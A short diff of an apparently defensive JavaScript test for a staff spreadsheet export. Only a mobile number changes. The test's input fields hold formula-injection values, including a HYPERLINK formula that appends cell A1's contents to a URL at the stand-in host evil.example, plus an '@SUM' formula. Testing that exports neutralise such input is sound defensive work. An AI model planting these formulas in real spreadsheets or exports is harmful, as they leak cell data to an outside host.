@@ -217,7 +217,7 @@ describe('the export', () => {
     const id = await staff.hire('formula', '内容运营', {
       userName: '=HYPERLINK("https://evil.example?"&A1,"x")',
       email: '@SUM(1+1)',
-      mobile: '+8613900005678',
+      mobile: '+447911123456',
     });
     const { sheet } = await download({ userIds: [id] }, 'admin');
     const cells = ['C2', 'D2', 'E2'].map((address) => sheet!.getCell(address));
